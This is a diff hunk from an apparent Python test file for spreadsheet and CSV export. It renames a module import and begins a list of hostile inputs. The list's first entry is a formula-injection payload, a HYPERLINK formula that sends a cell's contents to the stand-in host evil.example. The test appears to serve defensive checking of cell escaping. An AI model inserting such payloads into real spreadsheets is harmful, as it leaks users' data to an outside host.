@@ -10,7 +10,7 @@ import openpyxl
 import pytest
 
 from tests.conftest import Api
-from workflow.exports import append_text_row, csv_cell
+from workflow.uploads import append_text_row, csv_cell
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
